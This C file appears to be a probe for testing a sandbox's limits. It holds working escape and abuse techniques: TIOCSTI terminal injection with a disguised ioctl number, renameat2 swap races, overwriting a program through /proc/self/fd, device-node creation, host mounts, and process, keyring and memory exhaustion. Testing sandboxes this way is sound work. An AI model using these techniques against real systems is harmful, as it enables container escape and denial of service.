// The attacker's program: static, one binary, one word a way of attacking. It runs inside a sandbox and tells what it reached.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

int calls(void);

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec + time.tv_nsec / 1e9;
}

static const char *told(long result) { return result < 0 ? strerrorname_np(errno) : "ok"; }

// Which descriptors came along.
static int descriptors(void) {
  for (int fd = 0; fd < 4096; fd++)
    if (fcntl(fd, F_GETFD) >= 0) printf("%d\n", fd);
  return 0;
}

// Exchanges two paths again and again.
static int flip(const char *one, const char *other, const char *seconds) {
  long times = 0;
  if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) == 0) printf("flips\n"), fflush(stdout);
  for (double end = now() + atof(seconds); now() < end;)
    for (int i = 0; i < 64; i++) times += renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) == 0;
  printf("flipped %ld\n", times);
  return times == 0;
}

// Puts bytes into somebody's terminal, also with a request number that a 64-bit comparison takes for another.
static int terminal(void) {
  unsigned long requests[] = {TIOCSTI, TIOCSTI | 1UL << 32, 0x541c, 0x541c | 7UL << 40};
  const char *names[] = {"standard-input", "standard-output", "standard-error", "/dev/tty", "/dev/console"};
  for (int i = 0; i < 5; i++) {
    int fd = i < 3 ? i : open(names[i], O_RDWR | O_NOCTTY);
    for (size_t k = 0; k < sizeof requests / sizeof *requests && fd >= 0; k++) {
      char bytes[2] = {k < 2 ? 'x' : 12, 0};
      long result;
      __asm__ volatile("syscall" : "=a"(result) : "a"(16L), "D"((long)fd), "S"(requests[k]), "d"(bytes) : "rcx", "r11", "memory");
      errno = result < 0 ? -result : 0;
      printf("try %s %lx %s\n", names[i], requests[k], told(result < 0 ? -1 : 0));
    }
  }
  return 0;
}

// Connects to an abstract socket.
static int abstract(const char *name) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  memcpy(address.sun_path + 1, name, strlen(name));
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  printf("connect %s\n", told(connect(fd, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))));
  return 0;
}

// Starts as many sleeping children as it may.
static int children(const char *most) {
  static pid_t all[65536];
  int made = 0;
  pid_t pid = 1;
  while (made < atoi(most) && made < 65536 && (pid = fork()) > 0) all[made++] = pid;
  if (pid == 0) pause();
  printf("children %d %s\n", made, told(pid));
  for (int i = 0; i < made; i++) kill(all[i], SIGKILL), waitpid(all[i], NULL, 0);
  return 0;
}

// Makes a folder in a folder in a folder.
static int dig(const char *levels) {
  for (int i = 0; i < atoi(levels); i++)
    if (mkdir("d", 0755) || chdir("d")) { printf("dug %d %s\n", i, strerrorname_np(errno)); return 1; }
  close(open("file", O_CREAT | O_WRONLY, 0644));
  return 0;
}

// Holds a descriptor of a program and opens that program for writing again and again.
static int overwrite(const char *fd, const char *seconds) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%s", fd);
  struct stat meta;
  printf("holds %s\n", told(stat(path, &meta)));
  fflush(stdout);
  int last = 0;
  for (double end = now() + atof(seconds); now() < end;) {
    int out = open(path, O_WRONLY);
    if (out >= 0) {
      printf("overwritten %s\n", told(write(out, "HIT!", 4)));
      return 0;
    }
    if (errno != last) {
      last = errno;
      printf("refused %s\n", strerrorname_np(errno));
      fflush(stdout);
    }
  }
  return 0;
}

// Opens a node. With a single id it is played by a plain file, which has the length that it is given; a device has none.
static const char *opened(const char *path) {
  int fd = open(path, O_RDONLY | O_NONBLOCK);
  if (fd < 0) return told(fd);
  int out = open(path, O_WRONLY | O_NONBLOCK);
  return out >= 0 && ftruncate(out, 1) == 0 ? "plain file" : "ok";
}

// Makes device nodes and opens those that are there.
static int devices(void) {
  struct { const char *name; mode_t mode; dev_t device; } nodes[] = {
    {"vda", S_IFBLK | 0666, makedev(253, 0)}, {"loop", S_IFBLK | 0666, makedev(7, 0)}, {"mem", S_IFCHR | 0666, makedev(1, 1)},
    {"kmsg", S_IFCHR | 0666, makedev(1, 11)}, {"kvm", S_IFCHR | 0666, makedev(10, 232)}, {"fuse", S_IFCHR | 0666, makedev(10, 229)},
    {"tun", S_IFCHR | 0666, makedev(10, 200)}};
  const char *folders[] = {"/", "/dev", "/tmp", "/dev/shm"};
  for (size_t f = 0; f < sizeof folders / sizeof *folders; f++)
    for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++) {
      char path[64];
      snprintf(path, sizeof path, "%s/attack-%s", folders[f], nodes[i].name);
      const char *made = told(mknod(path, nodes[i].mode, nodes[i].device));
      printf("%s mknod %s", path, made);
      printf(" open %s\n", opened(path));
    }
  const char *paths[] = {"/dev/vda", "/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/sda", "/dev/loop0", "/dev/port"};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
    printf("%s open %s\n", paths[i], told(open(paths[i], O_RDONLY | O_NONBLOCK)));
  return 0;
}

// Mounts what would show the host's own control files.
static int mounts(void) {
  mkdir("/tmp/attack", 0700);
  const char *types[][2] = {{"cgroup", "memory"}, {"cgroup", "none,name=attack"}, {"cgroup2", ""}, {"proc", ""}, {"sysfs", ""},
                            {"tmpfs", ""}, {"debugfs", ""}, {"securityfs", ""}, {"bpf", ""}};
  for (size_t i = 0; i < sizeof types / sizeof *types; i++)
    printf("%s %s\n", types[i][0], told(mount("none", "/tmp/attack", types[i][0], 0, types[i][1])));
  printf("bind %s\n", told(mount("/", "/tmp/attack", NULL, MS_BIND | MS_REC, NULL)));
  printf("remount %s\n", told(mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL)));
  printf("umount %s\n", told(umount2("/proc/sys", MNT_DETACH)));
  return 0;
}

// Puts a key into a session of its own and becomes another program.
static int key(char **args) {
  syscall(SYS_keyctl, 1, 0);
  printf("key %s\n", told(syscall(SYS_add_key, "user", args[0], "x", 1L, -3L)));
  fflush(stdout);
  execvp(args[1], args + 1);
  return 1;
}

// Makes as many keys as its user can have, in a session of its own, and becomes another program.
static int keys(char **args) {
  char name[16];
  long made = 0;
  syscall(SYS_keyctl, 1, 0);
  do snprintf(name, sizeof name, "%ld", made);
  while (syscall(SYS_add_key, "user", name, "x", 1L, -3L) > 0 && ++made < 100000);
  printf("keys %s\n", told(-1));
  fflush(stdout);
  execvp(args[0], args);
  return 1;
}

// Looks for a key of that name in all that this process has.
static int find_key(const char *name) {
  for (long ring = -5; ring < 0; ring++)
    if (syscall(SYS_keyctl, 10, ring, "user", name, 0) > 0) printf("found in %ld\n", ring);
  printf("requested %s\n", told(syscall(SYS_request_key, "user", name, NULL, 0L)));
  return 0;
}

// Writes each file's own content back to it: to see whether it may.
static int rewrite(char **paths) {
  for (; *paths; paths++) {
    static char bytes[65536];
    int in = open(*paths, O_RDONLY | O_NONBLOCK);
    ssize_t length = in < 0 ? -1 : read(in, bytes, sizeof bytes);
    close(in);
    int out = open(*paths, O_WRONLY | O_NONBLOCK);
    if (out >= 0 && length > 0) printf("opened %s %s\n", *paths, told(write(out, bytes, length)));
    close(out);
  }
  printf("end\n");
  return 0;
}

// Uses all memory it gets.
static int memory(const char *mebibytes) {
  for (int i = 0; i < atoi(mebibytes); i++) {
    char *block = malloc(1 << 20);
    if (!block) { printf("refused after %d\n", i); return 0; }
    memset(block, i | 1, 1 << 20);
  }
  printf("used %s\n", mebibytes);
  return 0;
}

int main(int count, char **args) {
  const char *what = count > 1 ? args[1] : "";
  if (!strcmp(what, "calls")) return calls();
  if (!strcmp(what, "descriptors")) return descriptors();
  if (!strcmp(what, "flip") && count == 5) return flip(args[2], args[3], args[4]);
  if (!strcmp(what, "terminal")) return terminal();
  if (!strcmp(what, "abstract") && count == 3) return abstract(args[2]);
  if (!strcmp(what, "children") && count == 3) return children(args[2]);
  if (!strcmp(what, "dig") && count == 3) return dig(args[2]);
  if (!strcmp(what, "overwrite") && count == 4) return overwrite(args[2], args[3]);
  if (!strcmp(what, "devices")) return devices();
  if (!strcmp(what, "mounts")) return mounts();
  if (!strcmp(what, "memory") && count == 3) return memory(args[2]);
  if (!strcmp(what, "key") && count > 3) return key(args + 2);
  if (!strcmp(what, "keys") && count > 2) return keys(args + 2);
  if (!strcmp(what, "find-key") && count == 3) return find_key(args[2]);
  if (!strcmp(what, "rewrite")) return rewrite(args + 2);
  if (!strcmp(what, "mark") && count == 5) {
    printf("mark %s\n", told(setxattr(args[2], args[3], args[4], strlen(args[4]), 0)));
    return 0;
  }
  if (!strcmp(what, "marks") && count == 3) {
    char names[4096];
    printf("marks %zd\n", listxattr(args[2], names, sizeof names));
    return 0;
  }
  fprintf(stderr, "attack: what?\n");
  return 2;
}
